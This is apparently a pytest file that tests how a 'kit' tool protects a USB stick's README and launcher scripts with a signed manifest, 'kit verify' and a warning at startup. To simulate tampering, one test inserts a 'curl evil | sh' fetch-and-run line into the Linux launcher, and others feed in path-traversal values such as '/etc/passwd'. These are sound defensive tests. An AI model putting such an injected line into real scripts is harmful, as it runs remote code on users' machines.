"""The stick's root files (README.txt, the launchers): listed in bundle.json's root_files, covered by
the signature, checked by `kit verify`, and the launcher that started the runtime checked at start."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, run_kit

from kit import integrity, launch, signing
from kit.errors import UnsafePathError
from kit.manifest import ROOT_FILE_NAMES, load_bundle_manifest, parse_bundle_manifest
from kit.paths import find_bundle


def test_a_built_stick_lists_its_root_files(demo_stick):
    manifest = load_bundle_manifest(find_bundle(demo_stick))
    assert sorted(f.path for f in manifest.root_files) == sorted(ROOT_FILE_NAMES)
    for entry in manifest.root_files:
        assert integrity.hash_file(demo_stick / entry.path).blake3 == entry.blake3
    assert not any(f.path in ROOT_FILE_NAMES for f in manifest.files)  # not mixed into KIT/'s files
    assert integrity.verify_bundle(demo_stick / "KIT", manifest).ok


@pytest.mark.parametrize("name, change", [
    ("START-linux.sh", lambda b: b.replace(b"exec \"$RUNTIME\"", b"curl evil | sh; exec \"$RUNTIME\"")),
    ("README.txt", lambda b: b.replace(b"SURVIVAL KIT", b"SURVIVAL KIT (call +1 555 0100 for help)")),
    ("START-windows.bat", lambda b: b + b"\r\n"),
])
def test_verify_catches_a_changed_root_file(stick_copy, name, change):
    path = stick_copy / name
    changed = change(path.read_bytes())
    assert changed != path.read_bytes()
    path.write_bytes(changed)
    done = run_kit("verify", str(stick_copy))
    assert done.returncode != 0, done.stdout
    assert f"CORRUPT    {name}" in done.stdout, done.stdout
    report = json.loads(run_kit("verify", str(stick_copy), "--json").stdout)
    assert [f["path"] for f in report["files"] if f["state"] != "ok"] == [name]


def test_verify_catches_a_missing_or_linked_launcher(stick_copy):
    (stick_copy / "START-macos.command").unlink()
    (stick_copy / "START-linux.sh").unlink()
    (stick_copy / "START-linux.sh").symlink_to(stick_copy / "README.txt")
    report = json.loads(run_kit("verify", str(stick_copy), "--json").stdout)
    states = {f["path"]: f["state"] for f in report["files"] if f["state"] != "ok"}
    assert states == {"START-macos.command": "missing", "START-linux.sh": "corrupt"}


@pytest.mark.parametrize("bad", ["../START-linux.sh", "START-evil.sh", "KIT/bundle.json", "sub/README.txt",
                                 "/etc/passwd", "readme.txt", ""])
def test_a_root_path_not_in_the_list_is_refused(demo_stick, bad):
    data = load_bundle_manifest(find_bundle(demo_stick)).to_dict()
    data["root_files"][0]["path"] = bad
    with pytest.raises(UnsafePathError):
        parse_bundle_manifest(json.dumps(data).encode())


def test_a_root_file_cannot_be_named_in_kits_files(demo_stick):
    data = load_bundle_manifest(find_bundle(demo_stick)).to_dict()
    data["files"][0]["path"] = "../START-linux.sh"
    with pytest.raises(UnsafePathError):
        parse_bundle_manifest(json.dumps(data).encode())


def test_a_manifest_from_before_root_files_is_still_read_byte_for_byte(demo_stick):
    data = load_bundle_manifest(find_bundle(demo_stick)).to_dict()
    del data["root_files"]
    raw = (json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False) + "\n").encode()
    old = parse_bundle_manifest(raw)
    assert old.root_files == () and old.models[0].id == "gemma-3-270m"
    assert old.to_json() == raw  # nothing added: its signature and rollback record still hold
    assert launch.launcher_mismatch(find_bundle(demo_stick), old, "START-linux.sh") is None  # nothing to check


def test_the_signature_covers_the_root_files(tmp_path):
    key, pub = tmp_path / "key", tmp_path / "key.pub"
    signing.keygen(key, pub)
    stick = tmp_path / "stick"
    run_kit("build", "--profile", "manifests/demo.toml", "--target", str(stick), "--no-freeze", "--sign", str(key),
            check=True)
    launcher = stick / "START-linux.sh"
    launcher.write_bytes(launcher.read_bytes().replace(b"exec ", b"echo owned; exec "))
    # a forger lists the new launcher's hash: the manifest no longer matches its signature
    manifest = stick / "KIT" / "bundle.json"
    data = json.loads(manifest.read_bytes())
    entry = next(f for f in data["root_files"] if f["path"] == "START-linux.sh")
    digest = integrity.hash_file(launcher, sha256=True)
    entry.update(size=digest.size, blake3=digest.blake3, sha256=digest.sha256)
    manifest.write_bytes(json.dumps(data, indent=2, sort_keys=True).encode() + b"\n")
    done = run_kit("verify", str(stick))
    assert done.returncode != 0 and "does not match its signature" in done.stderr, done.stderr


START = """
import sys
from kit import launch
launch.open_stick(sys.argv[1])
print("opened")
"""


def _open_stick(stick: Path, launcher: str | None) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    env.pop("KIT_LAUNCHER", None)
    if launcher:
        env["KIT_LAUNCHER"] = launcher
    return subprocess.run([sys.executable, "-c", START, str(stick)], capture_output=True, text=True, env=env,
                          timeout=120, cwd=ROOT)


def test_the_runtime_warns_at_start_when_its_launcher_changed(stick_copy):
    intact = _open_stick(stick_copy, "START-linux.sh")
    assert intact.returncode == 0 and intact.stderr == "", intact.stderr
    launcher = stick_copy / "START-linux.sh"
    launcher.write_bytes(launcher.read_bytes() + b"# one more line\n")
    warned = _open_stick(stick_copy, "START-linux.sh")
    assert warned.returncode == 0 and warned.stdout == "opened\n"  # a warning, not a refusal
    lines = warned.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("kit: warning: START-linux.sh"), warned.stderr
    assert "verify" in lines[0]
    # another launcher, intact, started it: no warning; nor without KIT_LAUNCHER, nor for a strange name
    for name in ("START-macos.command", None, "../bundle.json"):
        assert _open_stick(stick_copy, name).stderr == "", name


def test_the_launcher_gives_its_name_to_the_runtime(stick_copy):
    stub = stick_copy / "KIT" / "runtimes" / "linux-x86_64" / "kit"
    stub.parent.mkdir(parents=True, exist_ok=True)
    stub.write_text('#!/bin/sh\nprintf "launcher=%s\\n" "$KIT_LAUNCHER"\n')
    stub.chmod(0o755)
    if os.uname().machine not in ("x86_64", "amd64"):
        shutil.move(stub.parent, stub.parent.with_name(f"linux-{'arm64'}"))
    done = subprocess.run(["sh", str(stick_copy / "START-linux.sh")], capture_output=True, text=True, cwd="/",
                          timeout=60)
    assert done.stdout.strip() == "launcher=START-linux.sh", done.stderr
